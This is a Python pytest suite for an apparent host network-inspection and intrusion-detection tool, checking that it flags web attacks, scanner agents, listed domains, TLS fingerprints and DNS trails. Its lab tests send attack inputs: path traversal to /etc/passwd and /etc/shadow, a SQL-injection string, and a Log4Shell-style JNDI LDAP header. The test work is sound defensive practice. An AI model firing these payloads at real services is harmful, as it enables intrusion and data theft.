# SPDX-License-Identifier: GPL-3.0-or-later
"""Packets of the host's own sockets, looked into: real clients and servers, and what is found of them."""
import json
import os
import subprocess

import pytest

import capture as c
from lab import BUILD, Lab
from test_replay import JA3, ja4

CLI = os.path.join(BUILD, "sockwarden")
SERVER = """
import socket, sys
# One answer to each connection or datagram, after the port was said; what comes then is read.
kind, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
family = socket.AF_INET6 if ":" in address else socket.AF_INET
s = socket.socket(family, socket.SOCK_DGRAM if kind == "udp" else socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((address, port))
if kind == "deferred":  # as Apache listens: a connection is one when its first bytes are there
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_DEFER_ACCEPT, 5)
if kind != "udp":
    s.listen(16)
print("ready", s.getsockname()[1], flush=True)
while True:
    if kind != "udp":
        c, _ = s.accept()
        c.recv(8192)
        c.sendall(b"HTTP/1.1 200 OK\\r\\nContent-Length: 0\\r\\nConnection: close\\r\\n\\r\\n")
        while c.recv(8192):
            pass
        c.close()
    else:
        data, peer = s.recvfrom(2048)
        s.sendto(data[:2] + b"\\x81\\x83" + data[4:], peer)  # the name does not exist
"""


def serve(lab, kind, address, port=0, on_host=True):
    p = lab.spawn("python3", "-S", "-E", "-c", SERVER, kind, address, port, on_host=on_host)
    return int(p.stdout.readline().split()[1])


def findings(lab, **want):
    rows = lab.cli_json("findings", "--last", "100")["findings"]
    return [f for f in rows if all(f.get(k) == v for k, v in want.items())]


def wait_finding(lab, **want):
    return lab.wait(lambda: findings(lab, **want), 10, f"a finding {want}")[0]


def inspected(lab):
    return lab.cli_json("status")["inspect"]


def client(lab, *argv, **kw):
    """A command of the host, in the watched cgroup; its end is waited for."""
    p = lab.spawn(*argv, **kw)
    p.communicate(timeout=20)
    return p.returncode


def attack(lab, port, path="/", agent="curl", target=None, *more):
    target = target or lab.host
    host = f"[{target}]" if ":" in target else target
    return lab.attack("curl", "-s", "-g", "-m", "5", "-o", "/dev/null", "-A", agent, *more, f"http://{host}:{port}{path}")


@pytest.fixture(scope="module")
def shared():
    with Lab() as lab:
        lab.start()
        yield lab


def test_an_attack_on_a_service_here_names_service_and_source(shared):
    lab = shared
    port = serve(lab, "tcp", "0.0.0.0")
    attack(lab, port, "/a?f=../../etc/passwd", "zgrab/0.x")
    f = wait_finding(lab, rule="web-attack")
    assert (f["subject"], f["process"], f["destination_port"], f["protocol"]) == (lab.attacker, "python3", port, "tcp")
    assert f["finding"] == "behaviour" and f["pid"] and f["title"].startswith("python3 got ../../ from ")
    assert wait_finding(lab, rule="web-scanner")["trail"] == "zgrab"


def test_the_same_over_ipv6(shared):
    lab = shared
    port = serve(lab, "tcp", "::")
    attack(lab, port, "/x?q=1%27%20or%20%271%27=%271", "curl", lab.host6, "--interface", lab.attacker6)
    assert wait_finding(lab, rule="web-attack", subject=lab.attacker6)["trail"] == "' or '1'='1"


def test_a_later_request_of_a_connection_is_looked_at_too(shared):
    lab = shared
    port = serve(lab, "tcp", "0.0.0.0")
    script = ("import socket, sys\ns = socket.create_connection((sys.argv[1], int(sys.argv[2])))\n"
              "for path in ['/a'] * 8 + ['/etc/shadow']:\n"
              "    s.sendall(f'GET {path} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())\n"
              "    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\n"
              "s.recv(10)\n")
    lab.attack("python3", "-c", script, lab.host, port)
    assert wait_finding(lab, rule="web-attack", destination_port=port)["trail"] == "/etc/shadow"


PIECES = """
import socket, sys
# Says each of the texts, in hex, as a segment of its own, at once, and reads the answer.
s = socket.socket()
s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
s.settimeout(10)
s.connect((sys.argv[1], int(sys.argv[2])))
for text in sys.argv[3:]:
    s.sendall(bytes.fromhex(text))
s.recv(100)
"""


def in_pieces(lab, port, *pieces, lose=None):
    """Pieces of bytes as segments; of one of them the host loses the first copy, so that it comes again behind what follows it."""
    if lose is not None:
        data = pieces[lose]
        lab.on_host("nft", "-f", "-", check=True, input=f"table inet lose {{ chain in {{ type filter hook prerouting priority raw; tcp dport {port} "
                    f"@th,256,16 0x{data[:2].hex()} quota until {len(data) + 60} bytes counter drop; }}; }}")
    try:
        lab.attack("python3", "-S", "-E", "-c", PIECES, lab.host, port, *[p.hex() for p in pieces])
        assert lose is None or "counter packets 1 " in lab.on_host("nft", "list", "table", "inet", "lose", check=True).stdout
    finally:
        lab.on_host("nft", "delete", "table", "inet", "lose")


def asks_with(what, method=b"GET"):
    """A request with an attack in its head, in three pieces."""
    return method + b" /index HTTP/1.1\r\nHost: x\r\n", b"X-Api: ${jndi:ldap", b"://198.18.0.66/" + what + b"}\r\n\r\n"


def test_a_request_whose_first_segment_comes_last_is_read(shared):
    lab = shared
    port = serve(lab, "tcp", "0.0.0.0")
    in_pieces(lab, port, *asks_with(b"first"), lose=0)
    f = wait_finding(lab, rule="web-attack", destination_port=port)
    assert f["trail"] == "${jndi:" and f["process"] == "python3" and f["subject"] == lab.attacker


def test_a_later_request_whose_first_segment_comes_last_is_read(shared):
    lab = shared
    port = serve(lab, "tcp", "0.0.0.0")
    in_pieces(lab, port, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", *asks_with(b"later", b"PUT"), lose=1)
    assert wait_finding(lab, rule="web-attack", destination_port=port)["trail"] == "${jndi:"


def test_a_hello_whose_first_segment_comes_second_is_read(listed):
    lab, cert, key, _ = listed
    p = lab.spawn("openssl", "s_server", "-accept", f"{lab.host}:0", "-cert", cert, "-key", key, stdin=subprocess.PIPE)
    port = int(next(line for line in p.stdout if line.startswith("ACCEPT")).rsplit(":", 1)[1])
    hello = c.hello("late.evil.test", pad=200)
    in_pieces(lab, port, hello[:100], hello[100:], lose=0)
    assert wait_finding(lab, rule="trail-sni", subject=lab.attacker)["trail"] == "evil.test"


def test_a_request_in_pieces_to_a_listener_that_waits_for_data_is_read(shared):
    lab = shared
    port = serve(lab, "deferred", "0.0.0.0")
    in_pieces(lab, port, *asks_with(b"deferred"))
    f = wait_finding(lab, rule="web-attack", destination_port=port)
    assert f["trail"] == "${jndi:" and f["process"] == "python3"


def test_an_attack_in_a_header_is_found(shared):
    lab = shared
    port = serve(lab, "tcp", "0.0.0.0")
    attack(lab, port, "/", "curl", None, "-H", "X-Api: ${jndi:ldap://198.18.0.66/a}")
    assert wait_finding(lab, rule="web-attack", destination_port=port)["trail"] == "${jndi:"


def test_what_a_process_here_asks_for_names_the_process(shared):
    lab = shared
    serve(lab, "udp", lab.gateway, 53, on_host=False)
    before = inspected(lab)["dns"]
    client(lab, "dig", "+tries=1", "+time=5", "@" + lab.gateway, "a" * 61 + ".example.test")
    f = wait_finding(lab, rule="dns-long-label")
    assert (f["process"], f["subject"], f["destination_port"], f["protocol"]) == ("dig", lab.gateway, 53, "udp")
    assert f["title"].startswith("dig asked for aaaa")
    lab.wait(lambda: inspected(lab)["dns"] >= before + 2, 5, "question and answer are read")


def test_the_same_thing_again_is_the_same_finding_with_its_sum(shared):
    lab = shared
    port = serve(lab, "tcp", "0.0.0.0")
    for _ in range(3):
        attack(lab, port, "/", "sqlmap/1.0")
    wait_finding(lab, rule="web-scanner", trail="sqlmap")
    seen = lab.wait(lambda: inspected(lab), 5, "status")
    assert len(findings(lab, rule="web-scanner", trail="sqlmap")) == 1
    assert seen["not_inspected"] == 0 and seen["requests"] >= 3


def test_findings_and_events_are_lines_of_other_tools_forms(shared):
    lab = shared
    port = serve(lab, "tcp", "0.0.0.0")
    attack(lab, port, "/", "nuclei")
    f = wait_finding(lab, rule="web-scanner", destination_port=port)
    follow = lab.spawn(CLI, *lab.cli_paths(), "events", "--follow", "-n", "200", "--form", "ecs")
    row = json.loads(next(line for line in follow.stdout if '"web-scanner"' in line and f'"port":{port}' in line))
    assert row["process"]["name"] == "python3" and row["process"]["pid"] == f["pid"] and row["related"]["ip"] == [lab.attacker]
    assert row["message"] == f["title"] and row["@timestamp"] == f["at"] and row["user"] == {"id": "0"}
    for form, said in (("ecs", f'"message":"{f["title"]}"'), ("ocsf", f'"value":"{lab.attacker}"'), ("cef", f"cs5Label=peer cs5={lab.attacker}"),
                       ("syslog", f"address={lab.attacker} protocol=tcp trail=nuclei"), ("maltrail", f' {lab.attacker} ')):
        lines = lab.ok("findings", "--form", form).splitlines()
        assert len(lines) == len(findings(lab)) and any(said in line and "web-scanner" in line or form == "maltrail" and said in line
                                                        for line in lines), (form, lines)


def test_nothing_is_looked_into_that_is_turned_off():
    with Lab(config="inspect:\n  http: false\n  tls: false\n  quic: false\n") as lab:
        lab.start()
        port = serve(lab, "tcp", "0.0.0.0")
        serve(lab, "udp", lab.gateway, 53, on_host=False)
        attack(lab, port, "/a?f=../../etc/passwd")
        client(lab, "dig", "+tries=1", "+time=5", "@" + lab.gateway, "b" * 61 + ".example.test")
        wait_finding(lab, rule="dns-long-label")  # it came later, and over the same ring
        assert inspected(lab)["requests"] == 0 and not findings(lab, rule="web-attack")


def test_who_attacks_a_service_is_banned_where_that_is_wanted():
    with Lab(config="inspect:\n  ban: true\n  ban_for: 1h\n") as lab:
        lab.start()
        assert lab.cli("arm")[0] in (0, 6)
        port = serve(lab, "tcp", "0.0.0.0")
        attack(lab, port, "/fine")
        assert lab.connect(port)[port] == "open"
        attack(lab, port, "/a?f=../../etc/passwd")
        lab.wait(lambda: lab.connect(port, timeout=0.3)[port] == "silent", 10, "the attacker is banned")
        ban = lab.cli_json("bans")["bans"][0]
        assert ban["net"].startswith(lab.attacker) and inspected(lab)["bans"] == 1
        assert lab.connect(port, source=lab.others[0])[port] == "open"


# ---- trails of every kind

SHA1_OF = "openssl x509 -in %s -outform der | sha1sum"


@pytest.fixture(scope="module")
def listed(tmp_path_factory):
    """A host with a directory of trails, and a certificate of which one is."""
    d = tmp_path_factory.mktemp("trails")
    d.chmod(0o755)
    cert, key = d / "cert.pem", d / "key.pem"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=tls.test", "-keyout", key,
                    "-out", cert], check=True, capture_output=True)
    sha1 = subprocess.run(["sh", "-c", SHA1_OF % cert], check=True, capture_output=True, text=True).stdout.split()[0]
    with Lab() as lab:
        trails = os.path.join(lab.dir, "trails")
        os.makedirs(os.path.join(trails, "malware"))
        with open(os.path.join(trails, "malware", "apt_test.txt"), "w", encoding="utf-8") as f:
            f.write(f"evil.test\nurl.test/gate/panel.php\n/lonely/shell.php\nanswer.test\n198.18.77.77\n{sha1}\n{JA3}\n{ja4()}\n{ja4('q')}\n")
        with open(os.path.join(trails, "malware", "ua.txt"), "w", encoding="utf-8") as f:
            f.write("EvilBot/[0-9]\n")
        lab.write_config(f"trails:\n  directories:\n    - {trails}\n")
        lab.start()
        lab.wait(lambda: "refused when enforcing" in lab.log(), 10, "the trails are compiled")
        yield lab, cert, key, sha1


def test_a_listed_domain_that_is_asked_for_names_rule_trail_list_and_process(listed):
    lab = listed[0]
    serve(lab, "udp", lab.gateway, 53, on_host=False)
    client(lab, "dig", "+tries=1", "+time=5", "@" + lab.gateway, "a.EVIL.test")
    f = wait_finding(lab, rule="trail-dns")
    assert (f["trail"], f["process"], f["finding"], f["list"]) == ("evil.test", "dig", "trail-hit", "apt test (malware)")
    assert f["title"] == "dig asked for evil.test: apt test (malware)"


def test_a_listed_host_url_and_agent_that_a_process_here_asks_for(listed):
    lab = listed[0]
    port = serve(lab, "tcp", lab.gateway, on_host=False)
    for path, host in (("/", "www.evil.test"), ("/gate/panel.php?x=1", "url.test"), ("/lonely/shell.php", "fine.test")):
        client(lab, "curl", "-s", "-m", "5", "-A", "evilbot/7", "-H", "Host: " + host, f"http://{lab.gateway}:{port}{path}")
    assert wait_finding(lab, rule="trail-host")["trail"] == "evil.test"
    assert wait_finding(lab, rule="trail-url", trail="url.test/gate/panel.php")["process"] == "curl"
    assert wait_finding(lab, rule="trail-url", trail="/lonely/shell.php")["subject"] == lab.gateway
    f = wait_finding(lab, rule="trail-agent")
    assert f["trail"] == "EvilBot/[0-9]" and f["severity"] == "medium" and f["title"].startswith("curl sent EvilBot/[0-9] to ")


def test_a_listed_server_name_and_certificate(listed):
    lab, cert, key, sha1 = listed
    p = lab.spawn("openssl", "s_server", "-accept", f"{lab.gateway}:0", "-cert", cert, "-key", key, "-tls1_2", on_host=False,
                  stdin=subprocess.PIPE)
    line = next(line for line in p.stdout if line.startswith("ACCEPT"))
    port = int(line.rsplit(":", 1)[1])
    client(lab, "openssl", "s_client", "-connect", f"{lab.gateway}:{port}", "-servername", "deep.evil.test", "-brief", stdin=subprocess.DEVNULL)
    f = wait_finding(lab, rule="trail-sni")
    assert (f["trail"], f["process"], f["destination_port"]) == ("evil.test", "openssl", port)
    f = wait_finding(lab, rule="trail-certificate")
    assert f["trail"] == sha1 and f["subject"] == lab.gateway and f["process"] == "openssl"
    assert p.poll() is None


RESOLVER = """
import socket, sys
# Answers each question with the same records, behind its own number.
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind((sys.argv[1], 53))
print("ready", flush=True)
while True:
    data, peer = s.recvfrom(2048)
    s.sendto(data[:2] + bytes.fromhex(sys.argv[2])[2:], peer)
"""
DATAGRAM = """
import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(bytes.fromhex(sys.argv[3]), (sys.argv[1], int(sys.argv[2])))
"""
# What a process here says, each in a way of its own: (script, port, bytes, rule, trail)
SAID = {
    "JA3": (PIECES, 0, c.hello("fine.test"), "trail-ja3", JA3),
    "JA4": (PIECES, 0, c.hello("other.test"), "trail-ja4", ja4()),
    "JA4 of QUIC": (DATAGRAM, 443, c.quic_initial([(0, c.hello("fine.test")[5:])]), "trail-ja4", ja4("q")),
    "name of QUIC": (DATAGRAM, 4433, c.quic_initial([(0, c.hello("quic.evil.test")[5:])]), "trail-sni", "evil.test"),
    "question over TCP": (PIECES, 53, b"\0" + bytes([len(c.question("tcp.evil.test", 16))]) + c.question("tcp.evil.test", 16), "trail-dns",
                          "evil.test"),
}


@pytest.mark.parametrize("name", SAID)
def test_what_a_process_here_says_in_another_way_is_found(listed, name):
    lab, (script, port, data, rule, trail) = listed[0], SAID[name]
    port = serve(lab, "tcp", lab.others[2], port, on_host=False) if script is PIECES else port
    client(lab, "python3", "-S", "-E", "-c", script, lab.others[2], port, data.hex())
    f = wait_finding(lab, rule=rule, trail=trail, destination_port=port)
    assert f["process"] == "python3" and f["subject"] == lab.others[2]


@pytest.mark.parametrize("kind, data, trail", [(1, c.packed("198.18.77.77"), "198.18.77.77"), (5, c.dns_name("x.answer.test"), "answer.test")])
def test_an_answer_that_leads_to_what_is_listed_is_found(listed, kind, data, trail):
    lab = listed[0]
    p = lab.spawn("python3", "-S", "-E", "-c", RESOLVER, lab.others[3], c.answer("fine.test", [(kind, data)]).hex(), on_host=False)
    assert p.stdout.readline() == "ready\n"
    client(lab, "dig", "+tries=1", "+time=5", "@" + lab.others[3], "fine.test")
    f = wait_finding(lab, rule="trail-answer", trail=trail)
    assert f["process"] == "dig" and f["subject"] == lab.others[3]
    p.kill()
    p.wait()


def test_a_listed_agent_that_comes_here_is_of_low_severity(listed):
    lab = listed[0]
    port = serve(lab, "tcp", "0.0.0.0")
    attack(lab, port, "/", "EvilBot/9")
    f = wait_finding(lab, rule="trail-agent", subject=lab.attacker)
    assert f["severity"] == "low" and f["process"] == "python3"


def ask(lab, name):
    """What dig says of a name: "NXDOMAIN", or "" when nothing came."""
    p = lab.spawn("dig", "+tries=1", "+time=2", "@" + lab.gateway, name)
    out = p.communicate(timeout=20)[0]
    return "NXDOMAIN" if "NXDOMAIN" in out else ""


def test_a_question_for_a_dropping_domain_is_refused_when_enforcing_and_an_exception_passes():
    with Lab() as lab:
        lab.start()
        serve(lab, "udp", lab.gateway, 53, on_host=False)
        with open(os.path.join(lab.dir, "bad.txt"), "w", encoding="utf-8") as f:
            f.write("198.18.77.1\nbad.test\n")
        with open(os.path.join(lab.dir, "good.txt"), "w", encoding="utf-8") as f:
            f.write("198.18.78.1\nfine.bad.test\n")
        assert lab.cli("trails", "import", os.path.join(lab.dir, "bad.txt"))[0] == 0
        assert lab.cli("trails", "import", os.path.join(lab.dir, "good.txt"), "--action", "except")[0] == 0
        lab.wait(lambda: "refused when enforcing: 2" in lab.log(), 10, "the domains are in force")
        assert ask(lab, "a.bad.test") == "NXDOMAIN", "observed only"
        f = wait_finding(lab, rule="trail-dns", trail="bad.test")
        assert "refused" not in f["title"]
        assert lab.cli("arm")[0] in (0, 6)
        assert ask(lab, "b.BAD.test") == "" and ask(lab, "bad.test") == ""
        assert ask(lab, "fine.bad.test") == "NXDOMAIN" and ask(lab, "x.fine.bad.test") == "NXDOMAIN"
        assert ask(lab, "notbad.test") == "NXDOMAIN" and ask(lab, "bad.test.example") == "NXDOMAIN"
        lab.wait(lambda: inspected(lab)["refused"] == 2, 5, "both are told")
        assert lab.cli("trails", "remove", "bad")[0] == 0
        lab.wait(lambda: ask(lab, "c.bad.test") == "NXDOMAIN", 10, "the list is gone, and so is what it refused")


# ---- connections that are cut

ANSWER = """
import socket, sys, threading
# Answers each connection once, after the port was said, and holds it until it ends.
s = socket.create_server((sys.argv[1], int(sys.argv[2])))
print("ready", s.getsockname()[1], flush=True)
def answer(c):
    try:
        c.recv(8192)
        c.sendall(b"yes")
        c.recv(1)
    except OSError:
        pass
    c.close()
while True:
    threading.Thread(target=answer, args=(s.accept()[0],), daemon=True).start()
"""
CLIENT = """
import socket, sys
# Says what it is told to, reads, and when it is to wait, waits for the end; prints how that was, and whether the next
# connection may begin.
address, port, said = sys.argv[1], int(sys.argv[2]), sys.argv[3].encode().decode("unicode_escape").encode("latin-1")
s = socket.create_connection((address, port), 20)
s.settimeout(20)
try:
    s.sendall(said)
    print("answer" if s.recv(100) else "end")
    if sys.argv[4] == "wait":
        s.recv(1)
except OSError as e:
    print(type(e).__name__)
try:
    socket.create_connection((address, port), float(sys.argv[5]))
    print("next")
except OSError as e:
    print(type(e).__name__)
"""
CUT = {"ConnectionAbortedError", "ConnectionResetError", "BrokenPipeError"}


def request(host):
    return f"GET / HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n"


def answer(lab, port=0):
    p = lab.spawn("python3", "-S", "-E", "-c", ANSWER, lab.others[0], port, on_host=False)
    return int(p.stdout.readline().split()[1])


def talk(lab, port, said, end="go", patience=20):
    p = lab.spawn("python3", "-S", "-E", "-c", CLIENT, lab.others[0], port, said, end, patience)  # the gateway is allowed by itself
    return p.communicate(timeout=60)[0].split()


def can_cut(lab):
    return "CONFIG_INET_DIAG_DESTROY" not in lab.log()


def question(name):
    labels = "".join(f"\\x{len(part):02x}{part}" for part in name.split(".")) + "\\x00"
    size = 12 + len(name) + 2 + 4
    return f"\\x{size >> 8:02x}\\x{size & 255:02x}\\x00\\x07\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00{labels}\\x00\\x01\\x00\\x01"


def test_a_connection_that_names_a_dropped_host_is_cut_when_enforcing_and_an_exception_tells_nothing():
    with Lab() as lab:
        lab.start()
        port, dns = answer(lab), answer(lab, 53)
        for name, text, action in (("bad", "bad.test", "drop"), ("seen", "seen.test", "observe"), ("good", "fine.bad.test", "except")):
            with open(os.path.join(lab.dir, name + ".txt"), "w", encoding="utf-8") as f:
                f.write(text + "\n")
            assert lab.cli("trails", "import", os.path.join(lab.dir, name + ".txt"), "--action", action)[0] == 0
        lab.wait(lambda: "refused when enforcing: 2" in lab.log(), 10, "the domains are in force")
        assert talk(lab, port, request("a.bad.test"))[0] == "answer", "observed only"
        wait_finding(lab, rule="trail-host", trail="bad.test")
        assert talk(lab, dns, question("tcp.bad.test"))[0] == "answer", "observed only"
        assert lab.cli("arm")[0] in (0, 6)
        got = talk(lab, port, request("b.bad.test"), "wait")
        assert got[-1] == "next", "the address is not refused by default"
        assert not can_cut(lab) or (set(got[:-1]) & CUT and inspected(lab)["cuts"] == 1), got
        got = talk(lab, dns, question("again.bad.test"), "wait")
        assert "answer" not in got and (not can_cut(lab) or got[0] in CUT), got
        assert talk(lab, port, request("x.fine.bad.test"))[0:2] == ["answer", "next"]
        assert talk(lab, dns, question("fine.bad.test"))[0:2] == ["answer", "next"]
        assert talk(lab, port, request("seen.test"))[0:2] == ["answer", "next"]
        wait_finding(lab, rule="trail-host", trail="seen.test")
        assert {f["trail"] for f in findings(lab, finding="trail-hit")} == {"bad.test", "seen.test"}
        assert not [f for f in findings(lab) if "fine" in f["title"]]


def test_where_a_connection_was_cut_to_is_refused_for_a_while_when_wanted_and_the_allowed_is_let_be():
    with Lab(config="inspect:\n  refuse_seconds: 600\n") as lab:
        lab.start()
        port, other = answer(lab), answer(lab)
        with open(os.path.join(lab.dir, "bad.txt"), "w", encoding="utf-8") as f:
            f.write("bad.test\n")
        assert lab.cli("trails", "import", os.path.join(lab.dir, "bad.txt"))[0] == 0
        lab.wait(lambda: "refused when enforcing: 1" in lab.log(), 10, "the domain is in force")
        assert lab.cli("arm")[0] in (0, 6)
        assert lab.cli("allow", "add", lab.others[0])[0] in (0, 6)
        assert talk(lab, port, request("bad.test")) == ["answer", "next"]
        wait_finding(lab, rule="trail-host")
        assert inspected(lab)["cuts"] == 0
        assert lab.cli("allow", "remove", lab.others[0])[0] in (0, 6)
        got = talk(lab, port, request("www.bad.test"), "wait" if can_cut(lab) else "go", 3)
        if can_cut(lab):
            assert got[-1] == "TimeoutError", got
        lab.wait(lambda: inspected(lab)["cuts"] == 1, 10, "it was to be cut")
        assert talk(lab, other, request("good.test"))[-1] == "next", "another port of it"
        assert lab.cli("off", "--observe")[0] in (0, 6)
        assert talk(lab, port, request("fine.test"))[-1] == "next", "nothing is refused that is not enforced"
